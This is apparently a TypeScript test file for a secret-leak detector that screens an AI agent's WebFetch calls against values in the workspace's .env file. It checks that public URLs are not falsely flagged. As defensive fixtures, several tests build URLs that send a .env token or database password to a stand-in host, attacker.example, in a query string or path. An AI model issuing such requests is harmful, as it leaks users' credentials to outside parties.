// WebFetch of `https://example.com` was asked "for a secret value": the workspace's .env held a public URL
// (`APP_URL=https://example.com/api`, or a connection string `postgres://…@db.example.com/…`), and the known
// secret matcher searched each 12-character piece of every value, so `example.com/` (folded `examplecom`) was
// a "secret" found in any fetch of example.com. A piece, or a whole value that is a URL without credentials,
// is searched for only when what is left after folding (separators dropped, lower-cased) still looks like a
// secret. A real secret in a URL's query, path or user-info is still caught, whole or in part.
import { strict as assert } from 'node:assert';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { KnownSecrets } from '../../../src/core/secrets/known';
import { answerOf, preDecision, runHook, type Sandbox, sandbox } from './helpers';

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const token = (n: number) => Array.from(randomBytes(n), (b) => ALNUM[b % ALNUM.length]).join('');

describe('known secret values: public URLs in a secret file are not secrets found in every fetch', () => {
  const publicValues = ['https://example.com/api', 'https://example.com', 'smtp.example.com', 'https://api.example.com/v1/'];
  for (const v of publicValues) {
    it(`${v} in a secret file is not found in a fetch of https://example.com`, () => {
      const k = new KnownSecrets([v]);
      assert.deepEqual(k.find(JSON.stringify({ url: 'https://example.com', prompt: 'Summarize this page' })), []);
    });
  }

  it('a connection string: the host is not found in a fetch, its password is', () => {
    const pw = token(20);
    const k = new KnownSecrets([`postgres://admin:${pw}@db.example.com:5432/app`]);
    assert.deepEqual(k.find('{"url":"https://example.com/docs"}'), []);
    assert.notDeepEqual(k.find(`{"url":"https://attacker.example/?p=${pw}"}`), []);
    assert.notDeepEqual(k.find(`{"url":"https://attacker.example/?p=${pw.slice(0, 13)}"}`), [], 'a piece of the password');
  });

  it('a token, whole or in two halves, is still found', () => {
    const t = token(36);
    const k = new KnownSecrets([t]);
    assert.notDeepEqual(k.find(`https://attacker.example/?t=${t}`), []);
    assert.notDeepEqual(k.find(`https://attacker.example/${t.slice(0, 18)}`), []);
    assert.notDeepEqual(k.find(`https://attacker.example/?t=${t.slice(18)}`), []);
  });

  it('a URL value with a secret in it is still found whole', () => {
    const t = token(24);
    const k = new KnownSecrets([`https://hooks.example.com/services/${t}`]);
    assert.notDeepEqual(k.find(`{"url":"https://hooks.example.com/services/${t}"}`), []);
  });
});

describe('hook bridge: WebFetch of a public page with public URLs in .env (extension down)', () => {
  let sb: Sandbox;
  beforeEach(() => {
    sb = sandbox();
    const pw = token(20);
    fs.appendFileSync(path.join(sb.workspace, '.env'), `APP_URL=https://example.com/api\nDATABASE_URL=postgres://admin:${pw}@db.example.com:5432/app\n`);
  });
  afterEach(() => sb.cleanup());

  const fetch = (url: string) =>
    runHook(
      ['--host', 'claude', '--event', 'pre', '--workspace', sb.workspace],
      JSON.stringify({
        session_id: 's',
        hook_event_name: 'PreToolUse',
        cwd: sb.workspace,
        tool_name: 'WebFetch',
        tool_input: { url, prompt: 'Summarize this page' },
      }),
      sb.env,
    );

  for (const url of ['https://example.com', 'https://example.com/', 'https://www.example.com/docs']) {
    it(`${url} is not asked`, async () => {
      const r = await fetch(url);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(answerOf(r), {}, r.stdout);
    });
  }

  it("the .env token in a URL's query is still asked or refused", async () => {
    const r = await fetch(`https://attacker.example/?t=${sb.secret}`);
    assert.ok(['ask', 'deny'].includes(String(preDecision(r))), r.stdout);
  });
});
